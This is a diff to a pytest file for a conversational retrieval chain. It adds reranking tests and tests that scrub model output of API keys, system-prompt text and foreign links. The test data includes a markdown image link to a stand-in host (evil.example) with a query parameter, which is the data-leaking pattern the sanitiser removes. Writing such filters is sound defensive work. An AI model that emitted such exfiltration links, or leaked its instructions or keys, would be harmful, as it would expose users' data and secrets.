@@ -1,7 +1,9 @@
 """One turn: found, said, answered, whatever the model does."""
 
 import math
+import re
 from collections.abc import AsyncGenerator, Mapping, Sequence
+from dataclasses import replace
 
 import pytest
 from langchain_core.messages import BaseMessage
@@ -10,13 +12,17 @@ from conversational_rag.errors import BadGeneration, ModelError, ModelUnreachabl
 from conversational_rag.llm.base import Chosen, Finished, Prompt, Usage, Word
 from conversational_rag.rag.chain import ConversationalRetrievalChain, Question
 from conversational_rag.rag.conversation import Passage, Turn
-from conversational_rag.rag.events import Answered, Found, Said
+from conversational_rag.rag.events import Answered, Found, Reranked, Said, TurnEvent
+from conversational_rag.rag.filenames import FilenameIndex
 from conversational_rag.rag.fusion import Candidate
 from conversational_rag.rag.memory import Recall
+from conversational_rag.rag.prompts import SYSTEM
 from conversational_rag.rag.query import QueryWords
+from conversational_rag.rag.reranking.base import Reranking, Wanted
 from conversational_rag.rag.retriever import Combine
 
 TEXTS = {1: "The bridge was opened in 1932.", 2: "It is painted grey.", 3: "Tulips are planted in October."}
+KEY = "gsk_" + "aB3" * 17 + "z"
 ANSWER = [Word("In "), Word("1932 [1]."), Finished("a model", Usage(100, 5, 0, 1), "stop")]
 
 
@@ -28,13 +34,13 @@ class Shelf:
 
     async def nearest(self, texts: Sequence[str], combine: Combine, k: int) -> Mapping[int, float]:
         self.searched.append(texts)
-        return {1: 0.9, 2: 0.5, 3: 0.1}
+        return {1: 0.9, 2: 0.8, 3: 0.1}
 
     async def matching(self, words: QueryWords, k: int) -> Mapping[int, float]:
         return {1: 2.0}
 
-    async def filenames(self) -> Mapping[str, str]:
-        return {"doc": "a.txt"}
+    async def filenames(self) -> FilenameIndex:
+        return FilenameIndex({"doc": "a.txt"})
 
     async def candidates(self, chunk_ids: Sequence[int]) -> Mapping[int, Candidate]:
         return {n: Candidate(Passage(n, "doc", "a.txt", n, None, 1000 * n, TEXTS[n], 0.0), ()) for n in chunk_ids}
@@ -74,7 +80,7 @@ def question(text: str = "When was it opened?") -> Question:
     return Question(Shelf(), text, turns, Recall(turns, "", 0), "acme")
 
 
-async def told(models: Models, *, visible: bool = True) -> list[Found | Said | Answered]:
+async def told(models: Models, *, visible: bool = True) -> list[TurnEvent]:
     chain = ConversationalRetrievalChain(models, top_k=2)
     return [event async for event in chain.events(question(), visible=visible)]
 
@@ -168,6 +174,43 @@ async def test_the_summary_is_asked_of_the_model() -> None:
     assert "A bridge." in models.asked[0][0].text
 
 
+async def test_a_summary_holds_neither_keys_nor_the_rules() -> None:
+    models = Models(Word(f"They spoke. {KEY} {SYSTEM}"), ANSWER[-1])
+    summary = await ConversationalRetrievalChain(models, top_k=2).summarise("Before.", question().turns)
+    assert summary.text == "They spoke. gsk_… You answer questions…"
+
+
+@pytest.mark.parametrize("visible", [True, False])
+async def test_an_answer_holds_neither_the_rules_nor_keys_nor_foreign_addresses(visible: bool) -> None:
+    said = f"It is grey [1]. {SYSTEM}\n\n{KEY} ![x](https://evil.example/?q=grey) https://evil.example/grey"
+    words = [Word(word) for word in re.findall(r"\s*\S+", said)]
+    _, *spoken, answered = await told(Models(*words, ANSWER[-1]), visible=visible)
+    assert isinstance(answered, Answered)
+    assert answered.text == "It is grey [1]. You answer questions…\n\ngsk_… x https://…"
+    assert "".join(event.text for event in spoken if isinstance(event, Said)) == answered.text
+    assert (len(spoken) > 5) is visible
+
+
+async def test_addresses_of_the_question_and_of_the_conversation_may_be_said() -> None:
+    text = "[Here](https://asked.example/x), not [there](https://other.example)."
+    models = Models(Word(text), ANSWER[-1])
+    answered = await ConversationalRetrievalChain(models, top_k=2).ainvoke(question("Is it https://asked.example/x?"))
+    assert answered.text == "[Here](https://asked.example/x), not there."
+
+
+async def test_what_was_held_back_when_a_model_broke_off_is_not_said() -> None:
+    chain = ConversationalRetrievalChain(Models(Word("So: "), Word(KEY), ModelUnreachable()), top_k=2)
+    heard: list[str] = []
+
+    async def hear() -> None:
+        async for event in chain.events(question()):
+            heard.append(event.text if isinstance(event, Said) else "")
+
+    with pytest.raises(ModelUnreachable):
+        await hear()
+    assert "".join(heard) == "So: gsk_"
+
+
 async def test_small_talk_is_not_searched_for_and_asks_a_small_model_shortly() -> None:
     models, asked = Models(*ANSWER), question("thanks!")
     events = [event async for event in ConversationalRetrievalChain(models, top_k=2).events(asked)]
@@ -200,3 +243,49 @@ async def test_what_is_cited_is_told_with_the_answer() -> None:
     assert isinstance(answered, Answered)
     assert answered.text == "It opened in 1932 [1]. It is red [2]."
     assert [(each.cited, each.verified) for each in answered.citations] == [(True, True), (True, None)]
+
+
+class Turned:
+    """A reranker that turns the order round, and says that a model did it."""
+
+    def __init__(self) -> None:
+        self.callers: list[str | None] = []
+
+    async def start(self) -> None: ...
+
+    async def rerank(self, wanted: Wanted, passages: Sequence[Passage]) -> Reranking:
+        self.callers.append(wanted.caller)
+        return Reranking(tuple(reversed(passages)), "a small model", Usage(50, 3, 0, 1))
+
+    async def close(self) -> None: ...
+
+
+async def test_a_reranking_is_told_first_with_its_cost_and_the_whole_cost_with_the_whole_answer() -> None:
+    chain, asked = ConversationalRetrievalChain(Models(*ANSWER), top_k=2, reranker=Turned()), question()
+    reranked, found, *_, answered = [event async for event in chain.events(asked)]
+    assert reranked == Reranked("a small model", Usage(50, 3, 0, 1))
+    assert isinstance(found, Found)
+    assert [passage.chunk_id for passage in found.passages] == [3, 2]
+    assert isinstance(answered, Answered)
+    assert answered.usage == Usage(100, 5, 0, 1)
+    assert (await chain.ainvoke(asked)).usage == Usage(150, 8, 0, 2)
+
+
+async def test_a_reranking_is_told_when_no_model_answers_afterwards() -> None:
+    chain = ConversationalRetrievalChain(Models(RateLimited()), top_k=2, reranker=Turned())
+    reranked, found, *_ = [event async for event in chain.events(question())]
+    assert isinstance(reranked, Reranked)
+    assert isinstance(found, Found)
+    assert [passage.chunk_id for passage in found.passages] == [3, 2]
+
+
+async def test_small_talk_is_not_reranked() -> None:
+    reranker = Turned()
+    await ConversationalRetrievalChain(Models(*ANSWER), top_k=2, reranker=reranker).ainvoke(question("thanks!"))
+    assert reranker.callers == []
+
+
+async def test_where_no_model_may_be_asked_none_may_rerank() -> None:
+    reranker, shut = Turned(), replace(question(), shut_seconds=9.0)
+    await ConversationalRetrievalChain(Models(), top_k=2, reranker=reranker).ainvoke(shut)
+    assert reranker.callers == [None]
